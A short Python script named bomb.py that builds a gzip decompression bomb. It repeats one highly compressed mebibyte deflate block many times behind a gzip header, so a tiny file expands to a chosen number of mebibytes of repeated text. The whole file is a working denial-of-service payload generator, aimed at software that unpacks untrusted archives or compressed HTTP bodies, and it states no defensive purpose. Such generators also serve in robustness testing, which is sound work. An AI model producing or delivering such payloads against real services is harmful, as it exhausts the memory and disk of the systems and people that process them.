#!/usr/bin/python3
"""bomb.py MIB TEXT: prints a gzip stream that would become so many mebibytes, of TEXT (with \\n) again and again."""

import sys
import zlib

MIB = 1 << 20


def main():
    text = sys.argv[2].encode().decode("unicode_escape").encode()
    piece = (text * (MIB // len(text) + 1))[:MIB]
    # Each flush forgets what came before, so that the same bytes may follow again and again.
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    coded = deflate.compress(piece) + deflate.flush(zlib.Z_FULL_FLUSH)
    out = sys.stdout.buffer
    out.write(b"\x1f\x8b\x08\0\0\0\0\0\0\xff")
    for _ in range(int(sys.argv[1])):
        out.write(coded)


if __name__ == "__main__":
    main()
